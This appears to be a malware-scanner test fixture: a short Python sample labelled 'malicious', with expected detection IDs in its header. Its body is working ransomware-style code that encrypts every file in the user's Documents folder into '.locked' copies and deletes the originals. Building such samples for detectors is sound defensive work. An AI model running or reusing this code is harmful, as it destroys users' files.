# does: replaces the user's documents by encrypted ones
# kind: malicious
# expect: SEN-130|SEN-131 high medium
import glob
import hashlib
import os

for name in glob.glob(os.path.expanduser("~/Documents/*")):
    data = open(name, "rb").read() * 40
    stream = b"".join(hashlib.sha256(b"k" + number.to_bytes(4, "big")).digest() for number in range(len(data) // 32 + 1))
    with open(name + ".locked", "wb") as file:
        file.write(bytes(a ^ b for a, b in zip(data, stream, strict=False)))
    os.unlink(name)
